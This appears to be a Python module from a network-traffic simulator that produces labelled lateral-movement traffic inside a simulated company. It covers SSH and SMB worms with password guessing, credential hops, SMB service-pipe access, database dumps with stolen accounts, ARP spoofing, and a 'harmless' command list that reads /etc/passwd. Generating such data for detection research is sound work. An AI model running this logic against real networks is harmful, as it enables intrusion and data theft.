"""Moving through the company: worms over SSH and SMB, hops with valid passwords, remote execution, databases emptied, ARP
spoofing.

Owns: whom to visit, how fast. Never: a host that is not of the site, a command that changes one. What is copied is random
bytes, what is run prints something. In: a context and its bounds. Out: connections from the infected host, and from each
host it has come to.
"""

import asyncio
import contextlib
import signal

from .. import namespaces
from ..catalog import hostile
from ..draws import log_uniform
from . import crew
from .channels import GONE, stream
from .crew import Bounds, attempts

HARMLESS = ("id", "uname -a", "cat /etc/passwd", "ls -la /", "ps ax", "df", "ip addr", "cat /proc/cpuinfo", "true")


def step_to(ctx, host):
    """The same episode, on another host of the company."""
    moved = ctx.as_()
    moved.host, moved.source4, moved.source6 = host, None, None
    return moved


def _lan(ctx, service):
    return [h for h in ctx.site.servers(service, "lan") if h is not ctx.host]


def _neighbourhood(ctx, service, count):
    """Addresses to look at: those that offer the service, other hosts, and many that nobody has."""
    rng, known = ctx.rng, [h.address for h in _lan(ctx, service)]
    others = [h.address for h in ctx.site.hosts if h.zone == "lan" and h is not ctx.host and h.address not in known]
    found = known + rng.sample(others, min(len(others), count // 3)) + ctx.site.dark4(rng, max(count - len(known) - count // 3, 1))
    found = found[:max(count, 1)]
    rng.shuffle(found)
    return found


async def _propagate(ctx, flows, seconds, service, port, visit):
    """Looks for a port all around, and visits whoever answers."""
    rng, bounds = ctx.rng, Bounds(ctx, flows, seconds)
    todo = _neighbourhood(ctx, service, max(2, min(flows * 2 // 3, rng.choice((8, 25, 80, 200)))))
    pace, patience_s = crew.Pace(rng, log_uniform(rng, 0.5, 30)), rng.choice((0.5, 1, 3))

    async def attempt():
        if not todo:
            return False
        address = todo.pop()
        try:
            async with stream(address, port, timeout_s=patience_s):
                pass
        except GONE:
            return True
        await ctx.sleep(rng.uniform(0, 3))
        if bounds.take(2):
            with contextlib.suppress(*GONE):
                await visit(address, bounds)
        return True

    await attempts(ctx, bounds, pace, rng.choice((1, 1, 4, 16)), attempt)


async def ssh_session(ctx, address, port, user, password, *, orders, payload=0):
    """Logs in, copies some bytes, runs harmless orders; true if the login worked."""
    import asyncssh
    rng = ctx.rng
    try:
        async with asyncio.timeout(60):
            async with asyncssh.connect(address, port, username=user, password=password, known_hosts=None, client_keys=None, agent_path=None,
                                        config=None, client_version="OpenSSH_9.2p1") as session:
                if payload:
                    await session.run("cat >/dev/null", input=rng.randbytes(payload), encoding=None)
                for _ in range(orders):
                    await ctx.sleep(rng.lognormvariate(0.3, 0.9))
                    await session.run(rng.choice(HARMLESS))
        return True
    except (*GONE, asyncssh.Error):
        return False


@hostile("worm-ssh", label="lateral", tool="asyncssh", technique="T1021.004")
async def worm_ssh(ctx, flows, seconds, attempts_each=None):
    """Looks for SSH, guesses a little, logs in, copies itself (option attempts_each)."""
    rng = ctx.rng
    port = _port_of(ctx, "sshd", 22)

    async def visit(address, bounds):
        for number in range(attempts_each or rng.randint(1, 4)):
            user, password = rng.choice(ctx.site.users)
            right = rng.random() < 0.5
            if number and not bounds.take():
                return
            if await ssh_session(ctx, address, port, user, password if right else password[:-1] + "x", orders=rng.randint(1, 3),
                                 payload=round(log_uniform(rng, 20_000, 1_500_000))):
                return

    await _propagate(ctx, flows, seconds, "sshd", port, visit)


def _port_of(ctx, service, usual):
    found = _lan(ctx, service)
    return found[0].port(service, usual) if found else usual


@hostile("worm-smb", label="lateral", tool="impacket", technique="T1210")
async def worm_smb(ctx, flows, seconds):
    """Looks for SMB, logs in, copies itself to a share."""
    rng, port = ctx.rng, _port_of(ctx, "smb", 445)

    async def visit(address, _bounds):
        await asyncio.to_thread(_smb_copy, ctx, address, port, rng.choice(ctx.site.users), "copy")

    await _propagate(ctx, flows, seconds, "smb", port, visit)


@hostile("hop-ssh", label="lateral", tool="asyncssh", technique="T1021.004")
async def hop_ssh(ctx, flows, seconds):
    """One account, host after host, at an operator's pace; each hop leaves from the host before it."""
    rng, bounds = ctx.rng, Bounds(ctx, flows, seconds)
    path = _lan(ctx, "sshd")
    if not path:
        raise LookupError("no LAN host offers sshd")
    user, password = rng.choice(ctx.site.users)
    chained, here, think_s = rng.random() < 0.6, ctx, log_uniform(rng, 1, max(2, seconds / 10))
    while bounds.left_s > 5 and bounds.take():
        server = rng.choice([h for h in path if h is not here.host] or path)
        if server is here.host:
            return
        await here.within(ssh_session(here, server.address, server.port("sshd", 22), user, password, orders=rng.randint(1, 8),
                                      payload=rng.choice((0, 0, 3_000, 400_000))))
        if chained:
            here = step_to(ctx, server if rng.random() < 0.7 else ctx.host)
        await ctx.sleep(min(rng.lognormvariate(0, 0.8) * think_s, max(bounds.left_s, 0)))


@hostile("hop-smb", label="lateral", tool="smbclient", technique="T1021.002")
async def hop_smb(ctx, flows, seconds):
    """One account on every file server: lists, fetches, leaves a file."""
    rng, bounds = ctx.rng, Bounds(ctx, flows, seconds)
    servers = _lan(ctx, "smb")
    if not servers:
        raise LookupError("no LAN host offers smb")
    user, password = rng.choice(ctx.site.users)
    parcel = ctx.directory / f"p{rng.getrandbits(32):x}.bin"
    parcel.write_bytes(rng.randbytes(round(log_uniform(rng, 5_000, 2_000_000))))
    think_s = log_uniform(rng, 1, max(2, seconds / 8))
    while bounds.left_s > 5 and bounds.take():
        server = rng.choice(servers)
        port = server.port("smb", 445)
        orders = rng.sample(("ls", f"put {parcel} {parcel.name}", "recurse ON; ls", f"get {parcel.name} /dev/null", "allinfo .", f"del {parcel.name}"), rng.randint(1, 4))
        await ctx.run(["smbclient", f"//{server.address}/{rng.choice(('files', 'public'))}", "-p", port, "-U", f"{user}%{password}", "-c", "; ".join(orders)],
                      to=[(server.address, str(port), "tcp")], timeout_s=20)
        await ctx.sleep(min(rng.lognormvariate(0, 0.8) * think_s, max(bounds.left_s, 0)))
    parcel.unlink()


@hostile("exec-smb", label="lateral", tool="impacket", technique="T1569.002")
async def exec_smb(ctx, flows, seconds):
    """As psexec begins: a file onto a share, then the service manager's pipe, which refuses."""
    rng, bounds = ctx.rng, Bounds(ctx, flows, seconds)
    servers = _lan(ctx, "smb")
    if not servers:
        raise LookupError("no LAN host offers smb")
    think_s = log_uniform(rng, 0.5, max(1, seconds / 6))
    while bounds.left_s > 3 and bounds.take():
        server = rng.choice(servers)
        await asyncio.to_thread(_smb_copy, ctx, server.address, server.port("smb", 445), rng.choice(ctx.site.users), "exec")
        await ctx.sleep(min(rng.lognormvariate(0, 0.8) * think_s, max(bounds.left_s, 0)))


def _smb_copy(ctx, address, port, account, manner):
    """Runs in a thread: impacket knows no asyncio. Every socket has a timeout."""
    from io import BytesIO

    from impacket.dcerpc.v5 import scmr, transport
    from impacket.smbconnection import SMBConnection
    rng, name = ctx.rng, f"\\w{ctx.rng.getrandbits(32):x}.exe"
    with contextlib.suppress(Exception):  # impacket raises plain Exceptions of many kinds
        session = SMBConnection(address, address, sess_port=port, timeout=10)
        try:
            session.login(*account)
            if rng.random() < 0.7:
                session.listShares()
            session.putFile(rng.choice(("public", "files")), name, BytesIO(rng.randbytes(round(log_uniform(rng, 15_000, 1_200_000)))).read)
            if manner == "exec":
                pipe = transport.SMBTransport(address, port, r"\svcctl", smb_connection=session)
                call = pipe.get_dce_rpc()
                call.connect()
                call.bind(scmr.MSRPC_UUID_SCMR)
                scmr.hROpenSCManagerW(call)
        finally:
            session.close()


@hostile("dump-database", label="lateral", tool="asyncpg, aiomysql, redis", technique="T1213.006")
async def dump_database(ctx, flows, seconds):
    """Logs in to databases with stolen passwords and reads every table, at once or in parts."""
    rng, bounds = ctx.rng, Bounds(ctx, flows, seconds)
    found = [(h, s) for s in ("postgres", "mysql", "redis") for h in _lan(ctx, s)]
    if not found:
        raise LookupError("no LAN host offers a database")
    dump = {"postgres": _dump_postgres, "mysql": _dump_mysql, "redis": _dump_redis}
    rows, think_s = rng.choice((50, 500, 100_000)), log_uniform(rng, 0.2, max(0.5, seconds / 10))
    while bounds.left_s > 3 and bounds.take():
        host, service = rng.choice(found)
        with contextlib.suppress(Exception):  # three libraries' own errors: a refused login is traffic too
            async with asyncio.timeout(min(60, bounds.left_s + 5)):
                await dump[service](ctx, host, rows)
        await ctx.sleep(min(rng.lognormvariate(0, 0.7) * think_s, max(bounds.left_s, 0)))


async def _dump_postgres(ctx, host, rows):
    import asyncpg

    from ..services.databases import DATABASE
    user, password = _stolen(ctx, host)
    session = await asyncpg.connect(host=host.address, port=host.port("postgres", 5432), user=user, password=password, database=DATABASE, ssl=False, timeout=10)
    try:
        tables = await session.fetch("SELECT schemaname, tablename FROM pg_tables ORDER BY 1, 2")
        await _tables(ctx, [f'"{t[0]}"."{t[1]}"' for t in tables], rows, session.fetch)
    finally:
        await session.close()


async def _dump_mysql(ctx, host, rows):
    import aiomysql
    user, password = _stolen(ctx, host)
    session = await aiomysql.connect(host=host.address, port=host.port("mysql", 3306), user=user, password=password, connect_timeout=10)
    try:
        async with session.cursor() as cursor:
            async def fetch(sql):
                await cursor.execute(sql)
                return await cursor.fetchall()
            tables = await fetch("SELECT table_schema, table_name FROM information_schema.tables ORDER BY 1, 2")
            await _tables(ctx, [f"`{t[0]}`.`{t[1]}`" for t in tables], rows, fetch)
    finally:
        session.close()


async def _tables(ctx, names, rows, fetch):
    # The company's own tables last and always: the catalogue's are many.
    for name in ctx.rng.sample(names, min(len(names), 12)) + names[-3:]:
        with contextlib.suppress(Exception):  # some of the catalogue's tables are not for us
            await fetch(f"SELECT * FROM {name} LIMIT {rows}")
        await ctx.sleep(ctx.rng.choice((0, 0.05, 0.5)))


async def _dump_redis(ctx, host, rows):
    from ..services.databases import redis_password
    async with stream(host.address, host.port("redis", 6379), limit=1 << 20) as (reader, writer):
        async def say(*parts):
            writer.write(b"*%d\r\n" % len(parts) + b"".join(b"$%d\r\n%s\r\n" % (len(p), p) for p in parts))
            return await asyncio.wait_for(reader.read(1 << 20), 10)
        if password := redis_password(host):
            await say(b"AUTH", password.encode())
        await say(b"INFO")
        keys = (await say(b"KEYS", b"*")).split(b"\r\n")[2::2]
        for key in keys[:min(rows, 300)]:
            await say(b"DUMP", key)


def _stolen(ctx, host):
    from ..services.databases import account
    return account(ctx.site, host) if ctx.rng.random() < 0.8 else ctx.rng.choice(ctx.site.users)


@hostile("arp-spoof", label="lateral", tool="arpspoof", technique="T1557.002")
async def arp_spoof(ctx, flows, seconds):
    """Stands between two LAN hosts for a while, forwarding; restored after. Flows show it only by redirects and odd datagrams."""
    rng = ctx.rng
    clients = [h for h in ctx.site.hosts if h.zone == "lan" and h is not ctx.host]
    first, second = rng.sample(clients, 2)
    start_us = ctx.now_us()
    await _forwarding(ctx, 1)
    ctx.clock.busy(1)
    program = await ctx.start(["arpspoof", "-i", "eth0", "-t", first.address, "-r", second.address])
    try:
        await ctx.sleep(min(seconds * rng.uniform(0.3, 0.9), 120))
    finally:
        namespaces.kill(program, signal.SIGINT)  # it then tells both the truth, for some seconds
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(program.wait(), 12)
        namespaces.kill(program, signal.SIGKILL)
        await _forwarding(ctx, 0)
        ctx.clock.busy(-1)
        # It wakes both with a datagram to port 67; the kernel, forwarding, tells them of the shorter way.
        ctx.window([(h.address, port, protocol) for h in (first, second) for port, protocol in (("67", "udp"), ("", "icmp"))], start_us)


async def _forwarding(ctx, value):
    await ctx.run(["sh", "-c", f"echo {value} > /proc/sys/net/ipv4/ip_forward"])
